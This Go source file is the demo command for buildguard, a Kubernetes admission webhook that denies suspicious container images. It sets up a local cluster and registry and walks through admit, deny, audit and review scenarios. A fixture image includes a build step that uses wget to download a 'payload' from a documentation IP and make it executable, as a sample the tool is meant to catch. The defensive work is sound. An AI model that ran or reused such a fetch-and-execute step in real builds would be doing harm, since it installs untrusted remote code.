// Command demo plays buildguard's main job end to end on this machine: a
// local control plane (etcd, kube-apiserver, kube-controller-manager), a
// registry over TLS on loopback, and buildguard as its own process,
// registered as a validating webhook. It installs the CRDs and a policy
// and plays the story with kubectl, then stays up until Ctrl-C.
//
//	make demo   (go run ./cmd/demo -buildguard bin/buildguard)
package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"buildguard.dev/buildguard/e2e"
	"buildguard.dev/buildguard/internal/testregistry"
)

func main() {
	bin := flag.String("buildguard", "bin/buildguard", "path of the buildguard binary")
	exit := flag.Bool("exit", false, "stop after the story instead of staying up until Ctrl-C")
	flag.Parse()
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if err := run(ctx, *bin, *exit); err != nil {
		fmt.Fprintln(os.Stderr, "demo:", err)
		os.Exit(1)
	}
}

func run(ctx context.Context, bin string, exit bool) error {
	start := time.Now()
	bin, err := filepath.Abs(bin)
	if err != nil {
		return err
	}
	dir, err := os.MkdirTemp("", "buildguard-demo-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)

	section("Starting a control plane on loopback (etcd, kube-apiserver, kube-controller-manager)")
	cp, err := e2e.StartControlPlane(ctx, dir)
	if err != nil {
		return err
	}
	defer cp.Stop()
	reg, err := e2e.StartRegistry(dir)
	if err != nil {
		return err
	}
	defer reg.Close()
	fmt.Printf("  API server %s, registry https://%s\n", cp.URL, reg.Host)

	now := time.Now()
	images := map[string]testregistry.Image{
		"e2e/shop:1.4": {Created: now.Add(-72 * time.Hour), Steps: []string{
			"/bin/sh -c #(nop) ADD file:5d7a3b1c in / ",
			"RUN /bin/sh -c apt-get update && apt-get install -y --no-install-recommends ca-certificates # buildkit",
			"COPY shop /usr/local/bin/shop # buildkit",
		}},
		"e2e/hotfix:dev": {Created: now.Add(-6 * time.Second), Steps: []string{
			"/bin/sh -c #(nop) ADD file:5d7a3b1c in / ",
			"RUN /bin/sh -c wget -q http://203.0.113.9:8080/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit",
		}},
	}
	section("Pushing two images")
	for _, name := range []string{"e2e/shop:1.4", "e2e/hotfix:dev"} {
		img, err := testregistry.MakeImage(images[name])
		if err != nil {
			return err
		}
		d, err := reg.Push(name, img)
		if err != nil {
			return err
		}
		fmt.Printf("  %s/%s  %s…\n", reg.Host, name, d.String()[:19])
	}
	fmt.Println("  shop:1.4    built by the release pipeline 3 days ago")
	fmt.Println("  hotfix:dev  built on a node seconds ago; its RUN step downloaded a payload from 203.0.113.9")

	root, err := e2e.Root()
	if err != nil {
		return err
	}
	section("Installing buildguard's CRDs and a ClusterBuildPolicy")
	if err := kubectl(ctx, cp, "", "apply", "-f", filepath.Join(root, "manifests", "crd")); err != nil {
		return err
	}
	if err := kubectl(ctx, cp, "", "create", "namespace", "buildguard-system"); err != nil {
		return err
	}
	if _, err := cp.Kubectl(ctx, nil, "wait", "--for=condition=Established", "crd/clusterbuildpolicies.buildguard.dev", "crd/buildpolicyexceptions.buildguard.dev", "--timeout=30s"); err != nil {
		return err
	}
	// buildguard's RBAC, with the buildguard-reviewer role, and a
	// platform-team account that holds it.
	if _, err := cp.Kubectl(ctx, nil, "apply", "-f", filepath.Join(root, "manifests", "base", "rbac.yaml")); err != nil {
		return err
	}
	if _, err := cp.Kubectl(ctx, strings.NewReader(reviewerYAML), "apply", "-f", "-"); err != nil {
		return err
	}
	pol := e2e.PolicyYAML(reg.Host, "10m")
	fmt.Print(indent(pol))
	if err := kubectl(ctx, cp, pol, "apply", "-f", "-"); err != nil {
		return err
	}

	section("Starting buildguard and registering it as a validating webhook")
	reviewPort, err := e2e.FreePort()
	if err != nil {
		return err
	}
	storePath := filepath.Join(dir, "evidence.db")
	bg, err := e2e.StartBuildguard(ctx, bin, dir, cp, reg.CAFile,
		"--store-sqlite="+storePath, fmt.Sprintf("--review-listen=127.0.0.1:%d", reviewPort))
	if err != nil {
		return err
	}
	defer bg.Stop()
	if err := kubectl(ctx, cp, e2e.WebhookYAML(bg.URL), "apply", "-f", "-"); err != nil {
		return err
	}
	if err := waitFor(ctx, 30*time.Second, func() bool {
		out, err := cp.Kubectl(ctx, nil, "get", "validatingwebhookconfiguration", "buildguard", "-o", "jsonpath={.webhooks[0].clientConfig.caBundle}")
		return err == nil && len(out) > 100
	}); err != nil {
		return fmt.Errorf("caBundle not injected: %w\n%s", err, bg.Proc.Tail(2000))
	}
	for _, ns := range []string{"shop", "audited"} {
		if _, err := cp.Kubectl(ctx, nil, "create", "namespace", ns); err != nil {
			return err
		}
		if err := waitFor(ctx, 30*time.Second, func() bool {
			_, err := cp.Kubectl(ctx, nil, "get", "serviceaccount", "default", "-n", ns)
			return err == nil
		}); err != nil {
			return err
		}
	}
	if _, err := cp.Kubectl(ctx, nil, "label", "namespace", "audited", "buildguard.dev/mode=audit"); err != nil {
		return err
	}
	fmt.Printf("  buildguard serving %s; namespaces shop (enforce) and audited (audit)\n", bg.URL)
	fmt.Printf("  ready in %s\n", time.Since(start).Round(100*time.Millisecond))

	section("1. A pipeline image is admitted")
	if err := kubectl(ctx, cp, "", "create", "deployment", "shop", "-n", "shop", "--image="+reg.Host+"/e2e/shop:1.4", "--replicas=2"); err != nil {
		return err
	}
	waitFor(ctx, 30*time.Second, func() bool {
		out, err := cp.Kubectl(ctx, nil, "get", "pods", "-n", "shop", "-o", "name")
		return err == nil && len(strings.Fields(out)) == 2
	})
	kubectl(ctx, cp, "", "get", "pods", "-n", "shop")

	section("2. An image built seconds ago, with a download from an unknown IP, is denied")
	kubectl(ctx, cp, "", "run", "hotfix", "-n", "shop", "--image="+reg.Host+"/e2e/hotfix:dev")

	section("3. The same image in an audit namespace is admitted with a warning")
	kubectl(ctx, cp, "", "run", "hotfix", "-n", "audited", "--image="+reg.Host+"/e2e/hotfix:dev")
	fmt.Println("  the API server's audit log records validate.buildguard.dev/verdict=would-deny:")
	fmt.Println("  " + cp.AuditLog)

	section("4. Platform teams review the denials")
	// Records reach the store a moment after the decision.
	waitFor(ctx, 10*time.Second, func() bool {
		out, err := exec.CommandContext(ctx, bin, "denials", "--store-sqlite", storePath, "-o", "json").Output()
		return err == nil && strings.Count(string(out), `"id"`) >= 2
	})
	show(ctx, bin, nil, "denials", "--store-sqlite", storePath)

	section("5. An audit scan judges what already runs")
	show(ctx, bin, []string{"SSL_CERT_FILE=" + reg.CAFile}, "audit", "--kubeconfig", cp.Kubeconfig, "--policy-source=crd", "--no-progress")

	token, err := cp.Kubectl(ctx, nil, "create", "token", "reviewer", "-n", "buildguard-system", "--duration=2h")
	if err != nil {
		return err
	}
	section("Where to look next")
	fmt.Printf("  review UI:       https://127.0.0.1:%d/ (self-signed; log in with the reviewer's token:)\n", reviewPort)
	fmt.Printf("                   %s\n", strings.TrimSpace(token))
	fmt.Printf("  export KUBECONFIG=%s\n", cp.Kubeconfig)
	fmt.Printf("  %s get clusterbuildpolicies,buildpolicyexceptions -A\n", filepath.Join(root, "bin", "kubectl"))
	fmt.Printf("  %s check --config <policy.yaml> %s/e2e/hotfix:dev\n", bin, reg.Host)
	fmt.Printf("  buildguard log:  %s\n", bg.Proc.Log)
	fmt.Printf("  metrics:         curl -k https://%s/metrics\n", bg.Addr)
	if exit {
		return nil
	}
	fmt.Println("\nUp until Ctrl-C; everything is removed when it stops.")
	<-ctx.Done()
	fmt.Println("\nStopping.")
	return nil
}

func section(s string) { fmt.Printf("\n== %s\n", s) }

// reviewerYAML is a platform-team account holding the manifests'
// buildguard-reviewer role: it sees every decision and may grant
// exceptions in the review UI.
const reviewerYAML = `apiVersion: v1
kind: ServiceAccount
metadata: {name: reviewer, namespace: buildguard-system}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: demo-reviewer}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: buildguard-reviewer}
subjects: [{kind: ServiceAccount, name: reviewer, namespace: buildguard-system}]
`

// show runs a buildguard command, with env added to its environment, and
// shows it and its output as a person would see them. A non-zero exit
// status is part of the story (audit exits 1 when something would be
// denied), so it is shown, not returned.
func show(ctx context.Context, bin string, env []string, args ...string) {
	fmt.Printf("$ buildguard %s\n", strings.Join(args, " "))
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Env = append(os.Environ(), env...)
	out, err := cmd.CombinedOutput()
	fmt.Print(indent(strings.TrimSpace(string(out))))
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		fmt.Printf("  (exit status %d)\n", ee.ExitCode())
	} else if err != nil {
		fmt.Printf("  (%v)\n", err)
	}
}

func indent(s string) string {
	return "  " + strings.ReplaceAll(strings.TrimRight(s, "\n"), "\n", "\n  ") + "\n"
}

// kubectl shows a command and its output as a person would see them.
func kubectl(ctx context.Context, cp *e2e.ControlPlane, stdin string, args ...string) error {
	shown := append([]string(nil), args...)
	if stdin != "" {
		shown = append(shown, "<<EOF")
	}
	fmt.Printf("$ kubectl %s\n", strings.Join(shown, " "))
	var r *strings.Reader
	if stdin != "" {
		r = strings.NewReader(stdin)
	}
	var out string
	var err error
	if r != nil {
		out, err = cp.Kubectl(ctx, r, args...)
	} else {
		out, err = cp.Kubectl(ctx, nil, args...)
	}
	fmt.Print(indent(strings.TrimSpace(out)))
	return err
}

func waitFor(ctx context.Context, timeout time.Duration, ok func() bool) error {
	deadline := time.Now().Add(timeout)
	for !ok() {
		if time.Now().After(deadline) {
			return fmt.Errorf("not within %s", timeout)
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(250 * time.Millisecond):
		}
	}
	return nil
}
